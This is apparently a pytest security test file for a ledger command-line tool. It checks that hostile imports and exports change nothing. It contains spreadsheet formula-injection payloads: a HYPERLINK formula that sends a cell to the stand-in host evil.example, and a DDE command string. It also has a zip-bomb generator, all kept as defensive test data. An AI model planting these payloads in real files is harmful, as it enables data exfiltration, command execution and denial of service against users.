"""Nothing lost, nothing forged: output paths that would destroy the ledger, files shaped to
mislead or exhaust the import, and inputs that used to end in a traceback. Each case is tried
through the command line as a user (or an attacker) would, and each must change nothing."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from ledger.application import MissionLedger
from ledger.domain.limits import MAX_CELL_CHARS
from ledger.errors import BadInput
from ledger.imports.batch import import_file
from tests.integration.test_import_export import ROWS, csv_bytes
from tests.support.cli_session import RECORD, Ledger, fails, ok, record_roads


def size_of(ml: Ledger) -> int:
    app = MissionLedger(ml.db)
    try:
        return app.ledger_recorder.log_size()
    finally:
        app.close()


# --- 1. output paths ---------------------------------------------------------------------------------


def _ledger_files(ml: Ledger) -> list[Path]:
    ok(ml("as-of"))  # opens the views (and their journal files)
    views = ml.db.with_name("krabi.views.db")
    return [ml.db, Path(f"{ml.db}-wal"), Path(f"{ml.db}-shm"), views, Path(f"{views}-wal")]


@pytest.mark.parametrize("which", range(5))
@pytest.mark.parametrize("through", ["path", "symlink", "hardlink"])
def test_export_never_overwrites_the_ledger_its_views_or_their_journals(ml: Ledger, which: int, through: str) -> None:
    record_roads(ml)
    target = _ledger_files(ml)[which]
    if not target.exists():
        target.write_bytes(b"")  # a journal file SQLite may have removed: still refused by name
    before = size_of(ml)
    out = target
    if through == "symlink":
        out = ml.folder / "innocent.csv"
        out.symlink_to(target)
    elif through == "hardlink":
        out = ml.folder / "innocent.csv"
        os.link(target, out)
    content = target.read_bytes()
    result = ml("export", "--out", str(out), "--force")
    fails(result, 1, "refusing to overwrite it")
    assert target.read_bytes() == content
    assert size_of(ml) == before


def test_import_errors_file_may_not_be_the_ledger_nor_the_file_read(ml: Ledger) -> None:
    bad = ml.file("bad.csv", csv_bytes("6810103,INF-01,operating,2546,-1,km,,,,2545-10-01\n"))
    fails(ml("import", bad, "--errors", str(ml.db), "--force"), 1, "is the ledger")
    fails(ml("import", bad, "--errors", bad, "--force"), 1, "is the file being read")
    assert Path(bad).read_bytes().startswith(b"lao_code")
    assert size_of(ml) > 0


def test_an_existing_output_file_is_kept_unless_forced(ml: Ledger) -> None:
    record_roads(ml)
    mine = ml.folder / "mine.csv"
    mine.write_text("my own work")
    fails(ml("export", "--out", str(mine)), 1, "exists already; give --force")
    assert mine.read_text() == "my own work"
    ok(ml("export", "--out", str(mine), "--force"))
    assert mine.read_text(encoding="utf-8-sig").startswith("lao_code")


def test_an_output_in_a_missing_folder_is_one_line(ml: Ledger) -> None:
    fails(ml("export", "--out", str(ml.folder / "nowhere" / "x.csv")), 2, "does not exist")
    fails(ml("export", "--out", str(ml.folder)), 2, "is a folder")


def test_checkpoint_and_proof_outputs_are_guarded_too(ml: Ledger) -> None:
    record_roads(ml)
    ok(ml("keygen", "krabi-ppao", "--dir", str(ml.folder)))
    key = str(ml.folder / "krabi-ppao.key")
    fails(ml("checkpoint", "--key", key, "--out", str(ml.db)), 1, "is the ledger")
    fails(ml("checkpoint", "--key", key, "--out", key, "--force"), 1, "is the file being read")
    assert (ml.folder / "krabi-ppao.key").read_text().startswith("PRIVATE+KEY")


# --- 2. short rows ---------------------------------------------------------------------------------------


def test_a_short_row_is_a_bad_row_not_a_row_of_blanks(ledger: MissionLedger) -> None:
    import_file(ledger, csv_bytes(), name="krabi.csv")
    before = ledger.ledger_recorder.log_size()
    short = csv_bytes("6810103,INF-01,operating\n")
    report = import_file(ledger, short, name="short.csv")
    assert report.appended == 0 and ledger.ledger_recorder.log_size() == before
    (error,) = report.errors
    assert str(error) == "row 2: 3 cells where the header has 10 (fewer cells than columns)"
    assert ledger.show("6810103", "INF-01").received_fy == 2546  # not cleared


def test_a_long_row_is_reported_like_a_short_one(ledger: MissionLedger) -> None:
    report = import_file(ledger, csv_bytes(ROWS + "6810103,INF-02,operating,,,,,,,2024-01-01,extra\n"), name="x.csv")
    assert [str(e) for e in report.errors] == ["row 5: 11 cells where the header has 10 (more cells than columns)"]
    assert report.appended == 0


# --- 9, 10. files that used to end in a traceback, or exhaust the machine ----------------------------


def test_a_huge_cell_is_one_line(ml: Ledger) -> None:
    path = ml.file("huge.csv", csv_bytes('6810103,INF-01,operating,,,,,,"' + "x" * 140_000 + '",2024-01-01\n'))
    before = size_of(ml)
    fails(ml("import", path), 2, f"longer than {MAX_CELL_CHARS:,} characters")
    assert size_of(ml) == before


def test_an_unclosed_quote_is_named_with_its_line(ml: Ledger) -> None:
    rows = "".join(f"6810103,INF-{i:02d},operating,,,,,,,2024-01-01\n" for i in range(1, 9))
    rows += '6810103,QOL-01,"operating,,,,,,,2024-01-01\n'
    rows += "".join(f"6810104,X-{i},operating,,,,,,,2024-01-01\n" for i in range(3000))
    fails(ml("import", ml.file("quote.csv", csv_bytes(rows))), 2, "line 10")
    small = csv_bytes('6810103,QOL-01,"operating,,,,,,,2024-01-01\n6810103,QOL-02,operating,,,,,,,2024-01-01\n')
    fails(ml("import", ml.file("quote2.csv", small)), 2, "closing quote")


def test_deeply_nested_json_lines_are_one_line(ml: Ledger) -> None:
    path = ml.file("deep.jsonl", b'{"lao_code": ' + b"[" * 20_000 + b"]" * 20_000 + b"}\n")
    fails(ml("import", path), 2, "nested deeper")
    path = ml.file("nested.jsonl", b'{"lao_code": "6810103", "mission_code": {"a": 1}}\n')
    fails(ml("import", path), 2, "holds a list or object")


def _zip_bomb(path: Path, inflated: int) -> None:
    """A workbook whose one sheet inflates to `inflated` bytes of one repeated row."""
    row = b'<row><c t="inlineStr"><is><t>6810103</t></is></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b"<worksheet><sheetData>")
            chunk = row * (1 << 14)
            for _ in range(inflated // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")


@pytest.mark.slow
def test_an_xlsx_that_inflates_is_refused_quickly(ml: Ledger) -> None:
    import time

    path = ml.folder / "bomb.xlsx"
    _zip_bomb(path, 3 << 30)
    assert path.stat().st_size < 30 << 20
    started = time.monotonic()
    fails(ml("import", str(path)), 2, "inflate")
    assert time.monotonic() - started < 10  # refused from the zip's directory, not by inflating


def test_a_file_that_is_not_a_workbook_is_one_line(ml: Ledger) -> None:
    fails(ml("import", ml.file("fake.xlsx", b"PK\x03\x04 not really")), 2, "not a readable XLSX workbook")


def test_limits_hold_through_the_library_too(ledger: MissionLedger) -> None:
    with pytest.raises(BadInput, match="nested deeper"):
        import_file(ledger, b'{"a": [[[[[[1]]]]]]}\n', name="x.jsonl")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("xl/sharedStrings.xml", b" " * (200 << 20), compress_type=zipfile.ZIP_DEFLATED)
    with pytest.raises(BadInput, match=r"shared strings|inflates"):
        import_file(ledger, buffer.getvalue(), name="x.xlsx")


# --- 5. formula injection ---------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("note", FORMULAS)
def test_exports_hold_no_live_formula_and_import_back_unchanged(ml: Ledger, note: str) -> None:
    import csv

    import openpyxl

    record_roads(ml)
    ok(ml("correct", "6810103", "INF-01", "--set", f"note={note}", "--reason", "r"))
    note = note.strip()  # text fields are stored without surrounding blanks
    csv_out, xlsx_out = ml.folder / "out.csv", ml.folder / "out.xlsx"
    ok(ml("export", "--out", str(csv_out)))
    ok(ml("export", "--format", "xlsx", "--out", str(xlsx_out)))
    with csv_out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["note"] == "'" + note  # shown as text by Excel and LibreOffice
    with zipfile.ZipFile(xlsx_out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cells = {c.value: c.data_type for c in openpyxl.load_workbook(xlsx_out).active[3]}  # under the title and header
    assert cells[note] == "s"
    before = size_of(ml)
    for path in (csv_out, xlsx_out):
        out = ok(ml("import", str(path)))
        assert "nothing appended" in out, out
    assert size_of(ml) == before
    printed = list(csv.reader(io.StringIO(ok(ml("as-of", "--csv")).lstrip("\ufeff"))))
    assert printed[1][printed[0].index("note")] == "'" + note


# --- 7, 8, 15. signatures, cursors, key names -----------------------------------------------------------


def test_verify_and_verify_proof_without_a_key_fail_unless_told(ml: Ledger) -> None:
    record_roads(ml)
    ok(ml("keygen", "k", "--dir", str(ml.folder)))
    key, pub = str(ml.folder / "k.key"), str(ml.folder / "k.pub")
    cp, proof = str(ml.folder / "cp"), str(ml.folder / "p.proof")
    ok(ml("checkpoint", "--key", key, "--out", cp))
    ok(ml("prove", "inclusion", "94", "--checkpoint", cp, "--out", proof))
    fails(ml("verify", "--checkpoint", cp), 1, "signatures NOT checked")
    fails(ml("verify-proof", proof), 1, "signature was NOT checked")
    assert "signatures not checked (--no-signature)" in ok(ml("verify", "--checkpoint", cp, "--no-signature"))
    assert "signature not checked (--no-signature)" in ok(ml("verify-proof", proof, "--no-signature"))
    assert "2 signatures" in ok(ml("verify", "--checkpoint", cp, "--key", pub))  # recorded and given
    assert "signature verified" in ok(ml("verify-proof", proof, "--key", pub))


def test_a_feed_cursor_past_the_end_is_refused(ml: Ledger) -> None:
    size = size_of(ml)
    fails(ml("feed", "--after", str(size + 1)), 1, f"the ledger has {size} events")
    assert ok(ml("feed", "--after", str(size))) == ""


def test_keygen_names_the_key_by_its_file_name_not_its_path(ml: Ledger) -> None:
    (ml.folder / "keys").mkdir()
    out = ok(ml("keygen", str(ml.folder / "keys" / "krabi-ppao")))
    assert (ml.folder / "keys" / "krabi-ppao.key").exists() and (ml.folder / "keys" / "krabi-ppao.pub").exists()
    assert (ml.folder / "keys" / "krabi-ppao.pub").read_text().startswith("krabi-ppao+")
    assert str(ml.folder) not in out.split(": ", 1)[1]
    ok(ml("keygen", str(ml.folder / "keys" / "other"), "--name", "dla.go.th-81"))
    assert (ml.folder / "keys" / "other.pub").read_text().startswith("dla.go.th-81+")
    fails(ml("keygen", str(ml.folder / "x"), "--name", "/home/me/x"), 2, "looks like a file path")
    fails(ml("keygen", str(ml.folder / "y"), "--name", "a+b"), 2, "without '+'")
    fails(ml("keygen", str(ml.folder / "nowhere" / "z")), 2, "does not exist")


# --- 9, 11. where the ledger is ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "db, message",
    [
        ("notes.txt", "is not a mission-ledger file"),
        ("", "--db is empty"),
        ("mysql://root@localhost/missions", "not mysql"),
        ("folder", "is a folder"),
        ("krabi.views.db", "is a views file, not a ledger"),
    ],
)
def test_a_db_that_is_no_ledger_is_one_line_and_nothing_is_made(ml: Ledger, db: str, message: str) -> None:
    from click.testing import CliRunner

    from cli.main import cli

    ok(ml("as-of"))  # makes krabi.views.db
    (ml.folder / "notes.txt").write_text("my notes\n")
    (ml.folder / "folder").mkdir()

    def files() -> list[str]:  # SQLite may bring back a WAL file's -wal and -shm as it reads
        return sorted(p.name for p in ml.folder.iterdir() if not p.name.endswith(("-wal", "-shm")))

    before = files()
    where = str(ml.folder / db) if db and "://" not in db else db
    for command in (["init"], ["show", "6810103", "INF-01"]):
        result = CliRunner().invoke(cli, ["--db", where, *command], catch_exceptions=False)
        assert result.exit_code == 2, result.output
        assert result.output.startswith("Error: ") and message in result.output, result.output
        assert len(result.output.strip().splitlines()) == 1
    assert files() == before
    assert (ml.folder / "notes.txt").read_text() == "my notes\n"


# --- 13. implausible values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, message",
    [
        (["--budget", "1" + "0" * 30], "not a plausible budget"),
        (["--quantity", "1" * 41], "too long to be a number"),
        (["--quantity", "12345678901"], "not a plausible quantity"),
        (["--quantity", "1.123456"], "more than 4 decimals"),
        (["--staff", "9" * 5000], "too long to be a number"),
        (["--staff", "1000001"], "not a plausible number of staff"),
        (["--effective", "2700-01-01"], "is not plausible"),
        (["--effective", "1900-01-01"], "is not plausible"),
        (["--reported-at", "2057-01-01"], "is later than the time it is recorded"),
        (["--reported-at", "1907-06-01"], "not plausible"),
        (["--received-fy", "2599"], "is in the future"),
        (["--note", "x" * 100_000], "100,000 characters long; at most 2,000"),
        (["--note", "a\x07b"], "control character (U+0007)"),
        (["--reason", "two\nlines"], "one line"),
        (["--unit", "u" * 101], "at most 100"),
    ],
)
def test_implausible_values_are_refused_and_append_nothing(ml: Ledger, args: list[str], message: str) -> None:
    before = size_of(ml)
    base = {"--status": "operating", "--effective": "2567-10-01"}
    options = dict(base)
    for flag, value in zip(args[::2], args[1::2], strict=True):
        options[flag] = value
    result = ml("record", "6810103", "INF-01", *[x for kv in options.items() for x in kv])
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output, result.output
    assert size_of(ml) == before


def test_an_actor_with_a_newline_or_100kb_is_refused(ml: Ledger) -> None:
    from click.testing import CliRunner

    from cli.main import cli

    for actor, message in (("eve\nadmin", "one line"), ("x" * 100_000, "at most 200")):
        result = CliRunner().invoke(
            cli,
            ["--db", str(ml.db), "--actor", actor, *RECORD],
            env={"MISSION_LEDGER_CLOCK": ml.clock},
        )
        assert result.exit_code == 2 and message in result.output, result.output
    assert "6810103/INF-01" not in ok(ml("as-of"))


def test_an_import_row_with_a_date_from_2700_be_is_a_bad_row(ledger: MissionLedger) -> None:
    report = import_file(ledger, csv_bytes("6810103,INF-01,operating,,,,,,,2700-01-01\n"), name="x.csv")
    assert report.appended == 0 and "effective_from 2157-01-01 (2700 BE) is not plausible" in str(report.errors[0])


def test_a_registry_reload_that_moves_an_lao_says_so(ml: Ledger) -> None:
    from tests.conftest import package_data

    text = package_data("krabi_laos.csv").decode("utf-8-sig")
    lines = text.splitlines()
    header = lines[0].split(",")
    province = header.index("province_code")
    cells = lines[1].split(",")
    code = cells[header.index("lao_code")]
    cells[province] = "82"
    moved = "\n".join([lines[0], ",".join(cells), *lines[2:]]) + "\n"
    out = ok(ml("registry", "load", ml.file("moved.csv", moved.encode())))
    assert f"1 LAOs moved to another province: {code} (81 → 82)" in out


# --- 14. an auditor's read-only copy -----------------------------------------------------------------


def _as_a_user_without_override(command: list[str]) -> list[str]:
    """Root writes anywhere; without its override capabilities it meets file modes as a user does."""
    import shutil

    if os.geteuid() != 0:
        return command
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a read-only file cannot be made here")
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search", *command]


def test_a_read_only_copy_of_a_ledger_can_be_queried_and_verified(ml: Ledger, tmp_path: Path) -> None:
    import subprocess
    import sys

    record_roads(ml)
    audit = tmp_path / "audit"
    audit.mkdir()
    copy = audit / "krabi.db"
    import sqlite3

    source, target = sqlite3.connect(ml.db), sqlite3.connect(copy)
    source.backup(target)  # how a live SQLite file is copied whole (its WAL too)
    source.close()
    target.close()
    copy.chmod(0o444)
    audit.chmod(0o555)
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache"), "MISSION_LEDGER_CLOCK": ml.clock}
    root = Path(__file__).resolve().parents[2]
    env["PYTHONPATH"] = str(root)

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        command = _as_a_user_without_override([sys.executable, "-m", "cli.main", "--db", str(copy), *args])
        return subprocess.run(command, capture_output=True, text=True, env=env, cwd=root, timeout=120)

    try:
        shown = run("show", "6810103", "INF-01", "--json")
        assert shown.returncode == 0, shown.stderr
        assert '"quantity":"12.5"' in shown.stdout
        listed = run("as-of", "--province", "81")
        assert listed.returncode == 0 and "6810103" in listed.stdout, listed.stderr
        assert "read-only; the views are kept in" in listed.stderr
        assert list((tmp_path / "cache" / "mission-ledger").glob("krabi.views-*.db"))
        checked = run("verify", "--no-signature")
        assert checked.returncode == 0 and checked.stdout.startswith("ok: "), checked.stderr
        refused = run("correct", "6810103", "INF-01", "--set", "staff=3", "--reason", "x")
        assert refused.returncode == 1 and "is read-only here" in refused.stderr, refused.stderr
        assert sorted(p.name for p in audit.iterdir()) == ["krabi.db"]
    finally:
        audit.chmod(0o755)


# --- 4. a clock in the future ----------------------------------------------------------------------------


def test_a_ledger_clock_in_2099_is_refused_and_does_not_poison_later_writes(ml: Ledger) -> None:
    before = size_of(ml)
    result = ml(*RECORD, clock="2099-01-01T09:00:00+07:00")
    fails(result, 1, "ahead of this machine's")
    assert size_of(ml) == before
    record_roads(ml)  # the next write, on a sane clock, goes through
    assert size_of(ml) == before + 1
